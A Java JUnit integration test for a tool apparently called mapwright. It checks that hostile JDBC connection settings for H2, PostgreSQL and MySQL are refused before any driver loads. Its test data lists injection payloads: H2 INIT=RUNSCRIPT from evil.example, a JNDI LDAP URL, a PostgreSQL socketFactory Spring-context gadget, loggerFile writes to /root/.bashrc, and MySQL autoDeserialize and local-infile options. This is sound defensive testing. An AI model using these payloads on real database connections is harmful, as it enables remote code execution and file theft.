package org.mapwright.systemtests;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile H2, PostgreSQL and MySQL-style connection settings given to
 * {@code mapwright inspect --connector jdbc --set ...}: each is refused with exit code 2 (usage or
 * settings)
 * and a message naming the refused setting, and no JDBC driver class is even loaded (the JVM
 * runs with {@code -Xlog:class+load}, whose output must not mention {@code org.h2} or
 * {@code org.postgresql} classes). Extends the list of the JDBC connector's HostileSettingsTest
 * with H2 file-system prefixes and MySQL/MariaDB URL options.
 */
class HostileJdbcSettingsIT {

    @TempDir
    static Path dir;

    @BeforeAll
    static void driverJar() throws Exception {
        Cli.assertInstalled();
        Files.createFile(dir.resolve("driver.jar"));
    }

    static Stream<Arguments> hostile() {
        List<Arguments> a = new ArrayList<>();
        for (String path : List.of("shop;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'", "shop;AUTO_SERVER=TRUE", "tcp://evil.example:9092/~/db",
                "ssl://evil.example/db", "mem:scratch", "zip:/tmp/a.zip!/db", "nio:/etc/db", "split:db", "memFS:db", "async:db",
                "retry:db", "file:/tmp/db", "jndi:ldap://evil.example/x", "data/x:mem:y", "shop\u202E")) {
            a.add(Arguments.of("h2 path " + path, List.of("driver=h2", "path=" + path, "table=t"), "path"));
        }
        a.add(Arguments.of("h2 properties", List.of("driver=h2", "path=db", "properties=MODE=PostgreSQL;INIT=x", "table=t"), "propert"));
        a.add(Arguments.of("h2 user smuggles init", List.of("driver=h2", "path=db", "user=sa;INIT=RUNSCRIPT FROM 'x'", "table=t"), "user"));
        a.add(Arguments.of("h2 raw url", List.of("driver=h2", "url=jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'x'", "table=t"), "url"));
        for (String host : List.of("evil.example/db?socketFactory=x", "localhost?sslfactory=x", "a&loggerFile=/tmp/x", "x@evil.example",
                "127.0.0.1:5433", "local host")) {
            a.add(Arguments.of("pg host " + host, List.of("driver=postgresql", "host=" + host, "database=test", "table=t"), "host"));
        }
        for (String props : List.of("socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "socketFactoryArg=http://evil.example/x.xml", "sslfactory=com.evil.F", "sslhostnameverifier=com.evil.V",
                "authenticationPluginClassName=com.evil.A", "loggerFile=/root/.bashrc", "loggerLevel=TRACE", "options=-c log_statement=all",
                "password=hunter2", "sslmode=require;SOCKETFACTORY=x", "connectTimeout=5&socketFactory=x")) {
            a.add(Arguments.of("pg properties " + props, List.of("driver=postgresql", "host=127.0.0.1", "database=test", "properties=" + props,
                    "table=t"), "propert"));
        }
        a.add(Arguments.of("pg database query", List.of("driver=postgresql", "host=127.0.0.1", "database=test?socketFactory=x", "table=t"), "database"));
        a.add(Arguments.of("pg port", List.of("driver=postgresql", "host=127.0.0.1", "port=5432/x", "database=test", "table=t"), "port"));
        for (String url : List.of("jdbc:mysql://h/db?autoDeserialize=true", "jdbc:mysql://h/db?allowLoadLocalInfile=true",
                "jdbc:mysql://h/db?allowUrlInLocalInfile=true", "jdbc:mysql://h/db?queryInterceptors=com.evil.I",
                "jdbc:mysql://h/db?statementInterceptors=com.evil.I", "jdbc:mariadb://h/db?socketFactory=com.evil.F",
                "jdbc:mysql://h/db?user=root&password=hunter2", "jdbc:h2:mem:x", "jdbc:postgresql://h/db", "http://evil.example/")) {
            a.add(Arguments.of("generic url " + url, List.of("driver=generic", "driverJar=driver.jar", "driverClass=com.mysql.cj.jdbc.Driver",
                    "url=" + url, "table=t"), "url"));
        }
        a.add(Arguments.of("generic class property", List.of("driver=generic", "driverJar=driver.jar", "driverClass=com.acme.Driver",
                "url=jdbc:acme://h/db", "properties=socketFactoryClass=com.evil.F", "table=t"), "propert"));
        a.add(Arguments.of("generic driver class", List.of("driver=generic", "driverJar=driver.jar", "driverClass=com.acme.Driver;x",
                "url=jdbc:acme://h/db", "table=t"), "driverclass"));
        a.add(Arguments.of("generic driver jar is the root folder", List.of("driver=generic", "driverJar=//", "driverClass=com.acme.Driver",
                "url=jdbc:acme://h/db", "table=t"), "driverjar"));
        a.add(Arguments.of("unknown driver", List.of("driver=sqlite", "path=x.db", "table=t"), "driver"));
        return a.stream();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void refusesBeforeAnyDriverIsLoaded(String name, List<String> settings, String setting) throws Exception {
        List<String> args = new ArrayList<>(List.of("inspect", "--connector", "jdbc"));
        for (String s : settings) {
            args.add("--set");
            args.add(s);
        }
        Cli.Result r = Cli.run(dir, Map.of("MAPWRIGHT_OPTS", "-Xmx256m -Xlog:class+load=info"), Duration.ofSeconds(60),
                args.toArray(String[]::new));
        Cli.assertNoStackTrace(r);
        assertEquals(2, r.exit(), name + " is refused as a settings error\n" + r.err());
        String err = r.err().toLowerCase(Locale.ROOT);
        assertTrue(err.contains("refused") || err.contains("unknown driver"), name + ": says it refused the settings\n" + r.err());
        assertTrue(err.contains(setting), name + ": names the setting '" + setting + "'\n" + r.err());
        for (String line : r.out().split("\n")) {
            if (line.contains("class,load")) {
                assertFalse(line.contains(" org.h2.") || line.contains(" org.postgresql.") || line.contains(" com.mysql."),
                        name + ": a driver class was loaded: " + line);
            }
        }
    }
}
